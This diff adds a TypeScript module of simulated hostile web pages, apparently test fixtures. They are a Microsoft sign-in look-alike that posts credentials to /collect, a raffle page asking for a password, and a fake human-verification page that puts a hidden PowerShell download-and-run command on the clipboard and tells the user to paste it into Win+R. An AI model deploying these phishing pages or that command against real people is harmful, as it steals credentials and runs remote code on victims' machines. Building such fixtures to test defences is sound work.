@@ -1,0 +1,72 @@
+import { firstOf, htmlPage, type SitePart } from './site.ts'
+
+/** A page that imitates the sign-in of Microsoft on a host that is not Microsoft's. */
+export const lookAlike: SitePart = ({ method, url }) => {
+  if (url.pathname === '/collect' && method === 'POST')
+    return htmlPage('Please wait', '<h1>Please wait…</h1>')
+  if (url.pathname !== '/microsoft') return undefined
+  return htmlPage(
+    'Sign in to your account',
+    `<link rel="stylesheet" href="https://aadcdn.msauth.net/shared/1.0/content/css/converged.css">
+<main><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft">
+<h1>Sign in</h1><form method="post" action="/collect">
+  <input type="email" name="loginfmt" placeholder="Email, phone, or Skype" autocomplete="username">
+  <input type="password" name="passwd" placeholder="Password" autocomplete="current-password">
+  <p>No account? <a href="#">Create one!</a> <a href="#">Can't access your account?</a></p>
+  <button type="submit">Sign in</button></form>
+<footer>Terms of use Privacy &amp; cookies © Microsoft 2026</footer></main>`,
+  )
+}
+
+/** A page with nothing of an identity provider about it, that asks for a password all the same. */
+export const plainTrap: SitePart = ({ url }) => {
+  if (url.pathname !== '/raffle') return undefined
+  return htmlPage(
+    'Spring raffle',
+    `<h1>Win a bicycle</h1><form method="post" action="/collect">
+  <label>Your e-mail <input type="email" name="email"></label>
+  <label>Choose a password <input type="password" name="secret"></label>
+  <button type="submit">Take part</button></form>`,
+  )
+}
+
+/** The command that the page below puts on the clipboard. */
+export const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.io/a.ps1)"'
+
+/** A page that lets people "prove that they are human" by a command that it puts on their clipboard. */
+export const copyPasteAttack: SitePart = ({ url }) => {
+  if (url.pathname !== '/verify') return undefined
+  return htmlPage(
+    'Verify you are human',
+    `<h1>Verify you are human</h1><button id="verify">I am not a robot</button>
+<p>Press Windows+R, then Ctrl+V, then Enter.</p>
+<script>
+const command = ${JSON.stringify(pastedCommand)}
+document.getElementById('verify').addEventListener('click', () => {
+  const area = document.createElement('textarea')
+  area.value = command
+  document.body.append(area)
+  area.select()
+  document.execCommand('copy')
+  area.remove()
+  navigator.clipboard?.writeText(command).catch(() => {})
+  document.getElementById('verify').textContent = 'Done'
+})
+</script>`,
+  )
+}
+
+/** A page with other pages in frames; `?frame=` names them. */
+export const framed: SitePart = ({ url }) => {
+  if (url.pathname !== '/framed') return undefined
+  const frames = url.searchParams.getAll('frame').map((address) => {
+    const { href } = new URL(address)
+    return `<iframe src="${href.replaceAll('"', '%22')}" width="400" height="200"></iframe>`
+  })
+  return htmlPage('Frames', `<h1>Frames</h1>${frames.join('')}`)
+}
+
+/** Where these pages send a password by themselves. */
+export const trapPasswordPaths = ['/collect']
+
+export const threats = firstOf(lookAlike, plainTrap, copyPasteAttack, framed)
